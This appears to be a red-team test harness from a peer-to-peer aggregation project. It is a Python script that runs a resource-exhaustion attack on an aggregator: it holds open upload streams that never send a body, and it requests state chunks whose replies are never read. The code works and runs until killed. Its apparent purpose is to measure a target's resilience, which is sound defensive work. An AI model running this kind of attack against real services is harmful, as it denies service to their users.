"""RED TEAM ONLY: silent upload streams and unread chunk replies, kept up against one aggregator.

`python -m potluck.lab.attackers.streams --join ADDR [--silent 64] [--unread 64] [--claim-key HEX]`

- Silent streams: each opens a submit stream, sends a frame header declaring an upload, then nothing.
  When the aggregator drops or refuses it, another takes its place `--pause` seconds later.
- Unread replies: each opens a chunk stream, asks for a real chunk of the aggregator's current state
  (from its manifest, at the manifest's chunk size, or `--chunk-bytes`), and never reads the reply;
  every `--cycle` seconds it gives the stream up and asks again, so the pressure never lets go.

`--nice 19` keeps the attacker's own CPU use (and its p2pd's) out of the way of a swarm on the same
machine, so what is measured is what the target pays for the attack, as it would be over a network.

The manifest is asked for under `--claim-key` (a public key it claims, unauthenticated; by default a
throwaway one), so the attack can avoid, or include, the cost of a stranger joining the round.

Prints JSON events: `attacking` once every stream has been opened once, then `attack` each second with
the counts so far (streams opened, refused busy, dropped by the target).
"""

import asyncio
import json
import os
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import Any

from potluck.lab.attackers.command import attacker_parser
from potluck.protocol.client import AggregatorLink
from potluck.protocol.identity import generate_identity
from potluck.protocol.messages import CHUNK_HANDLER, SUBMIT_HANDLER
from potluck.protocol.node import dial, parse_join_address, peer_id_of, start_node
from potluck.protocol.state_chunks import SHA256_BYTES, ChunkRequest
from potluck.protocol.wire import HEADER_BYTES, MessageKind, RefusalCode, decode_error, encode_frame, encode_header

SILENT_UPLOAD_BYTES = 2**20  # what a silent stream declares: under any aggregator's upload limit
MAX_HOLD_S = 120.0  # a silent stream the target never drops is given up and opened again after this
_OPEN_TIMEOUT_S = 15.0


@dataclass
class Tally:
    """What the attack has done so far: counts by outcome, and the chunk it asks for now."""

    counts: Counter[str] = field(default_factory=Counter)
    request: ChunkRequest | None = None  # a chunk of the target's current state (its index is replaced)
    chunks: int = 1  # how many chunks that state has


async def _open(p2p: Any, target: Any, handler: str, tally: Tally) -> tuple[Any, Any] | None:
    try:
        _, reader, writer = await asyncio.wait_for(p2p.call_binary_stream_handler(target, handler), _OPEN_TIMEOUT_S)
    except Exception:  # noqa: BLE001 - p2pd's errors: the target refused or is gone; try again
        tally.counts["open failed"] += 1
        await asyncio.sleep(0.2)
        return None
    tally.counts[f"{handler} opened"] += 1
    return reader, writer


async def silent_stream(p2p: Any, target: Any, tally: Tally, *, pause_s: float) -> None:
    """One silent upload after another: a header that promises a body that never comes; `pause_s` between."""
    while True:
        opened = await _open(p2p, target, SUBMIT_HANDLER, tally)
        if opened is None:
            continue
        reader, writer = opened
        try:
            writer.write(encode_header(MessageKind.SUBMIT, SILENT_UPLOAD_BYTES))
            await writer.drain()
            # the target's answer (an ERROR frame's header and code byte), or its close
            head = await asyncio.wait_for(reader.readexactly(HEADER_BYTES + 1), MAX_HOLD_S)
            _note_answer(head, tally)
            await asyncio.sleep(pause_s)  # holding streams, not flooding opens: back as soon as a slot may be free
        except (TimeoutError, asyncio.TimeoutError):
            tally.counts["held to the end"] += 1
        except (ConnectionError, OSError, asyncio.IncompleteReadError):
            tally.counts["dropped by target"] += 1
            await asyncio.sleep(pause_s)
        finally:
            writer.close()


def _note_answer(head: bytes, tally: Tally) -> None:
    """Count what a silent stream got back: a BUSY refusal, or another refusal."""
    if head[4] == MessageKind.ERROR:
        code, _ = decode_error(head[HEADER_BYTES:])
        tally.counts["refused busy" if code is RefusalCode.BUSY else "refused"] += 1
    else:
        tally.counts["answered"] += 1


async def unread_stream(p2p: Any, target: Any, tally: Tally, *, cycle_s: float, index: int) -> None:
    """Ask for one chunk after another and read none of them; each stream is given up after `cycle_s`."""
    while True:
        request = tally.request
        if request is None:
            await asyncio.sleep(0.2)  # waiting for the manifest
            continue
        opened = await _open(p2p, target, CHUNK_HANDLER, tally)
        if opened is None:
            continue
        _, writer = opened
        try:
            chunk = ChunkRequest(
                shard=request.shard,
                version=request.version,
                payload_sha256=request.payload_sha256,
                chunk_bytes=request.chunk_bytes,
                index=index % tally.chunks,
            )
            writer.write(encode_frame(MessageKind.CHUNK_REQUEST, chunk.to_bytes()))
            await writer.drain()
            await asyncio.sleep(cycle_s)  # holding the reply unread is the attack
        except (ConnectionError, OSError):
            tally.counts["dropped by target"] += 1
        finally:
            writer.close()


async def follow_manifest(link: AggregatorLink, tally: Tally, *, claim_key: bytes, chunk_bytes: int | None) -> None:
    """Keep `tally.request` on the target's current state."""
    while True:
        try:
            signed, digests, _ = await link.fetch_manifest(claim_key, timeout_s=30)
            h = signed.header
            tally.request = ChunkRequest(
                shard=h.shard,
                version=h.new_version,
                payload_sha256=h.payload_sha256,
                chunk_bytes=chunk_bytes or h.chunk_bytes,
                index=0,
            )
            tally.chunks = max(1, len(digests) // SHA256_BYTES)
        except Exception:  # noqa: BLE001 - busy, or between rounds: ask again
            tally.counts["manifest failed"] += 1
        await asyncio.sleep(2.0)


async def attack(
    join: str,
    *,
    silent: int,
    unread: int,
    cycle_s: float,
    pause_s: float,
    claim_key: bytes | None,
    chunk_bytes: int | None,
) -> None:
    """Run the attack against the aggregator at `join` until killed, printing counts each second."""
    maddr = parse_join_address(join)
    node = await start_node(initial_peers=[maddr], client_mode=True)
    tasks: list[asyncio.Task[None]] = []
    try:
        target = peer_id_of(maddr)
        await dial(node.p2p, target, [maddr])
        tally = Tally()
        link = AggregatorLink(node.p2p, target)
        key = claim_key or generate_identity().public_key
        tasks += [asyncio.create_task(follow_manifest(link, tally, claim_key=key, chunk_bytes=chunk_bytes))]
        tasks += [asyncio.create_task(silent_stream(node.p2p, target, tally, pause_s=pause_s)) for _ in range(silent)]
        tasks += [
            asyncio.create_task(unread_stream(node.p2p, target, tally, cycle_s=cycle_s, index=i))
            for i in range(unread)
        ]
        announced = False
        while True:
            opened = tally.counts[f"{SUBMIT_HANDLER} opened"], tally.counts[f"{CHUNK_HANDLER} opened"]
            if not announced and opened[0] >= silent and opened[1] >= unread:
                event = {"event": "attacking", "silent": silent, "unread": unread, "time_s": time.time()}
                print(json.dumps(event), flush=True)
                announced = True
            print(json.dumps({"event": "attack", "time_s": time.time(), **tally.counts}), flush=True)
            await asyncio.sleep(1.0)  # a report a second: the attack itself runs in its tasks
    finally:
        for task in tasks:
            task.cancel()
        await node.shutdown()


def main() -> None:
    """The attacker's command line (red team only)."""
    parser = attacker_parser("potluck.lab.attackers.streams", __doc__)
    parser.add_argument("--silent", type=int, default=64, help="silent upload streams kept open")
    parser.add_argument("--unread", type=int, default=64, help="chunk streams whose replies are never read")
    parser.add_argument("--cycle", type=float, default=3.0, help="seconds an unread stream is held before renewal")
    parser.add_argument("--pause", type=float, default=1.0, help="seconds before a refused stream is opened again")
    parser.add_argument("--claim-key", default=None, help="hex public key claimed in manifest requests")
    parser.add_argument("--chunk-bytes", type=int, default=None, help="chunk size asked for (default: the manifest's)")
    parser.add_argument(
        "--nice", type=int, default=0, help="lower this process's CPU priority (and its p2pd's) by this much"
    )
    args = parser.parse_args()
    if args.nice:
        # on one shared machine the attacker's own CPU would slow the swarm too, which no remote attacker can do
        os.nice(args.nice)
    asyncio.run(
        attack(
            args.join,
            silent=args.silent,
            unread=args.unread,
            cycle_s=args.cycle,
            pause_s=args.pause,
            claim_key=bytes.fromhex(args.claim_key) if args.claim_key else None,
            chunk_bytes=args.chunk_bytes,
        )
    )


if __name__ == "__main__":
    main()
